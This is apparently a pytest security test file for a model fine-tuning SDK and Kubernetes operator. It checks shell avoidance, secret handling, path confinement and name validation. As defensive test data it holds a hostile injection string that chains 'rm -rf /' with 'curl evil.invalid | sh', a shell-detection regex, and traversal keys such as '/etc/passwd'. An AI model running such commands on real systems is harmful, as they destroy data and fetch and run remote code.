"""Security properties: no shell, secrets only by reference, keys confined, names checked before any call."""

from __future__ import annotations

import base64
import json
import logging
import re
import uuid
from pathlib import Path
from typing import Any

import pytest
from kubernetes import client

import finetuner
from finetuner.api.v1alpha1 import FinetuneRunSpec
from finetuner.backends.local import LocalBackend
from finetuner.errors import ArgumentError
from finetuner.storage import LocalStore, S3Store, StorageError, open_store
from finetuner_operator import builders
from finetuner_operator.config import OperatorConfig
from finetuner_operator.handlers import USER_AGENT
from tests.cluster.fixtures import NODE_USER_AGENT, S3_SECRET, Cluster
from tests.e2e.targets import Target
from tests.support.tiny import TINY_TIMM, TINY_TIMM_OPTIONS, labelled_images, write_jsonl

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = 'x; rm -rf / # $(whoami) `id` && curl evil.invalid | sh'
SHELLS = {'sh', 'bash', '/bin/sh', '/bin/bash', 'zsh', 'dash'}


# --- no spec string is ever interpolated into a shell -----------------------------------------------


def _owner() -> dict[str, Any]:
    meta = {'name': 'hostile', 'namespace': 'default', 'uid': str(uuid.uuid4())}
    return {'apiVersion': 'finetuner.dev/v1alpha1', 'kind': 'FinetuneRun', 'metadata': meta}


@pytest.mark.parametrize('nodes,gpus', [(1, 0), (1, 2), (2, 1)], ids=['cpu', 'torchrun-standalone', 'multi-node'])
def test_hostile_spec_strings_stay_data_in_the_config_map(nodes: int, gpus: int) -> None:
    spec = FinetuneRunSpec.model_validate(
        {
            'model': HOSTILE,
            'trainData': f's3://b/{HOSTILE}',
            'description': HOSTILE,
            'modelOptions': {'pooler': HOSTILE},
            'resources': {'nodes': nodes, 'gpus': gpus},
        }
    )
    config = OperatorConfig(output='s3://b/runs', s3_secret='s3-creds', hf_token_secret='hf')

    job = builders.build_job('hostile', 'default', spec, config, _owner())
    children = [
        job,
        *builders.build_job_dependents(
            'hostile', 'default', spec, config, {**job, 'metadata': {**job['metadata'], 'uid': 'job-uid'}}
        ),
    ]
    container = job['spec']['template']['spec']['containers'][0]
    argv = [*(container.get('command') or []), *(container.get('args') or [])]
    assert not SHELLS & {Path(a).name for a in argv}, f'a shell in the trainer command: {argv}'
    assert '-c' not in argv
    assert argv[-2:] == ['--config', builders.CONFIG_PATH]
    words = json.dumps({'argv': argv, 'env': container.get('env'), 'job': job})
    assert 'rm -rf' not in words and 'whoami' not in words, 'spec strings never reach the Job itself'
    config_map = next(c for c in children if c['kind'] == 'ConfigMap')
    trainer_config = json.loads(config_map['data'][builders.CONFIG_FILE])
    assert trainer_config['spec']['model'] == HOSTILE, 'the hostile string is a JSON value, byte for byte'
    assert trainer_config['spec']['modelOptions']['pooler'] == HOSTILE


def test_no_program_of_the_project_starts_a_shell() -> None:
    pattern = re.compile(
        r'shell\s*=\s*True|os\.system\(|os\.popen\(|\[\s*[\'"](?:/bin/)?(?:ba)?sh[\'"]\s*,\s*[\'"]-c[\'"]'
    )
    offenders = []
    for folder in ('sdk/finetuner', 'trainer/finetuner_trainer', 'operator/finetuner_operator'):
        for path in sorted((ROOT / folder).rglob('*.py')):
            for number, line in enumerate(path.read_text().splitlines(), 1):
                if pattern.search(line):
                    offenders.append(f'{path.relative_to(ROOT)}:{number}: {line.strip()}')
    assert offenders == []
    for template in sorted((ROOT / 'helm' / 'finetuner' / 'templates').glob('*.yaml')):
        text = template.read_text()
        assert not re.search(r'-\s*["\']?(?:/bin/)?(?:ba)?sh["\']?\s*\n\s*-\s*["\']?-c', text), template.name


def test_the_local_backend_starts_the_trainer_without_a_shell() -> None:
    from finetuner.backends.local import trainer_command

    argv = trainer_command()
    assert isinstance(argv, list) and all(isinstance(a, str) for a in argv)
    assert not SHELLS & {Path(a).name for a in argv} and '-c' not in argv


# --- secrets only by reference, never echoed ---------------------------------------------------------


def test_secrets_are_referenced_never_inlined() -> None:
    spec = FinetuneRunSpec(model='m', train_data='s3://b/d.jsonl')
    config = OperatorConfig(output='s3://b/runs', s3_secret='s3-creds', hf_token_secret='hf-token')

    job = builders.build_job('r', 'default', spec, config, _owner())

    env = {e['name']: e for e in job['spec']['template']['spec']['containers'][0]['env']}
    for name, secret in (
        ('AWS_ACCESS_KEY_ID', 's3-creds'),
        ('AWS_SECRET_ACCESS_KEY', 's3-creds'),
        ('HF_TOKEN', 'hf-token'),
    ):
        assert 'value' not in env[name], f'{name} is inlined'
        assert env[name]['valueFrom']['secretKeyRef']['name'] == secret
    assert job['spec']['template']['spec']['automountServiceAccountToken'] is False


def test_secret_values_appear_nowhere_a_user_or_operator_can_read(
    cluster: Cluster, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    # Distinctive credentials (moto accepts any): if any of them leaks, the search below finds it.
    access, secret = f'AKIA{uuid.uuid4().hex[:16].upper()}', f'sEcReT-{uuid.uuid4().hex}'
    core = client.CoreV1Api(cluster.api)
    encoded = {
        k: base64.b64encode(v.encode()).decode()
        for k, v in (('AWS_ACCESS_KEY_ID', access), ('AWS_SECRET_ACCESS_KEY', secret))
    }
    core.patch_namespaced_secret(S3_SECRET, 'default', {'data': encoded})
    target = Target('simulated', cluster.api, 'default', cluster.bucket, timeout=180.0)
    target.login()
    data = write_jsonl(labelled_images(n_classes=2, per_class=4), tmp_path / 'train.jsonl')
    run = finetuner.fit(
        model=TINY_TIMM,
        model_options=TINY_TIMM_OPTIONS,
        train_data=str(data),
        run_name='secretive',
        epochs=1,
        batch_size=8,
        device='cpu',
        num_workers=0,
    )

    final = target.wait_phase('secretive', ('FINISHED', 'FAILED'))

    assert final['phase'] == 'FINISHED', final
    pod = target.pods('secretive')[0]
    env = {e.name: e for e in pod.spec.containers[0].env}
    assert env['AWS_SECRET_ACCESS_KEY'].value_from.secret_key_ref.name == S3_SECRET, 'the pod got it by reference'
    readable = {
        'pod log': run.logs(),
        'run status and body': json.dumps(target.run_body('secretive')),
        'events': json.dumps([e.to_dict() for e in core.list_namespaced_event('default').items], default=str),
        'config maps': json.dumps([c.to_dict() for c in core.list_namespaced_config_map('default').items], default=str),
        'job': json.dumps([j.to_dict() for j in target.jobs('secretive')], default=str),
        'pods': json.dumps([p.to_dict() for p in target.pods('secretive')], default=str),
        'operator and test logs': caplog.text,
    }
    prefix = final['outputUri'].split('/', 3)[3]
    for key in cluster.s3.keys(prefix):
        if key.endswith(('.json', '.log', '.txt', '.yaml')):
            readable[f's3 {key}'] = (
                cluster.s3.client().get_object(Bucket=cluster.bucket, Key=key)['Body'].read().decode()
            )
    assert any(k.endswith('logs/train.log') for k in readable), 'the stored trainer log was searched too'
    for where, text in readable.items():
        assert access not in text and secret not in text, f'a credential leaked into the {where}'


# --- object-store keys confined to the run's prefix --------------------------------------------------


@pytest.mark.parametrize(
    'key,problem',
    [
        ('../other-run/artifact/manifest.json', 'climbs out of the run\'s prefix with ".."'),
        ('checkpoints/../../other-run/x', 'climbs out'),
        ('/etc/passwd', "must be relative to the run's prefix"),
        ('..\\other-run\\x', "must be relative to the run's prefix"),
    ],
)
def test_store_keys_cannot_leave_the_run_prefix(key: str, problem: str, tmp_path: Path) -> None:
    stores: list[Any] = [LocalStore(tmp_path / 'runs' / 'r'), S3Store('bucket', 'runs/default/r')]
    for store in stores:
        for operation in (store.read_bytes, store.child, store.list, store.delete):
            with pytest.raises(StorageError, match=re.escape(problem)):
                operation(key)
        assert not _exists_or_refused(store, key)
        with pytest.raises(StorageError, match=re.escape(problem)):
            store.write_bytes(key, b'x')


def _exists_or_refused(store: Any, key: str) -> bool:
    try:
        return bool(store.exists(key))
    except StorageError:
        return False


def test_deleting_a_run_prefix_leaves_runs_with_a_longer_name(s3: Any) -> None:
    bucket_store = open_store(f's3://{s3.bucket}/runs/default')
    for run in ('r', 'r2', 'r-other'):
        bucket_store.write_bytes(f'{run}/artifact/manifest.json', b'{}')

    open_store(f's3://{s3.bucket}/runs/default/r').delete()

    assert s3.keys('runs/') == ['runs/default/r-other/artifact/manifest.json', 'runs/default/r2/artifact/manifest.json']


# --- the local backend keeps to its home ----------------------------------------------------------


@pytest.mark.parametrize('name', ['../escape', '..', '/etc', 'a/../../b', 'UPPER'])
def test_local_backend_refuses_run_names_outside_its_home(name: str, tmp_path: Path) -> None:
    backend = LocalBackend(home=tmp_path / 'home')
    with pytest.raises((ArgumentError, ValueError), match=r'not a valid name|points outside|must be a non-empty'):
        backend.run_dir(name)
    finetuner.login(backend='local', home=tmp_path / 'home')
    for call in (finetuner.get_run, finetuner.delete_run):
        with pytest.raises(ArgumentError, match='run_name'):
            call(name)
    assert not (tmp_path / 'escape').exists() and list(tmp_path.iterdir()) == []


# --- names validated as DNS-1123 before any API call --------------------------------------------------


def test_invalid_names_never_reach_the_api_server(cluster: Cluster) -> None:
    Target('simulated', cluster.api, 'default', cluster.bucket, timeout=30.0).login()
    before = len(cluster.server.emu.requests)
    calls = [
        lambda: finetuner.fit(model=TINY_TIMM, train_data='s3://b/d.jsonl', run_name='Bad_Name'),
        lambda: finetuner.fit(model=TINY_TIMM, train_data='s3://b/d.jsonl', experiment_name='../exp'),
        lambda: finetuner.get_run('../../kube-system/x'),
        lambda: finetuner.delete_run('Bad_Name'),
        lambda: finetuner.create_experiment('Has Spaces'),
        lambda: finetuner.get_experiment('x' * 80),
    ]
    for call in calls:
        with pytest.raises(ArgumentError, match=r'is not a valid name|characters long'):
            call()

    sent = cluster.server.emu.requests[before:]
    ours = [r for r in sent if not r[2].startswith((NODE_USER_AGENT, USER_AGENT, 'kopf'))]
    assert ours == [], f'requests sent for invalid names: {ours}'
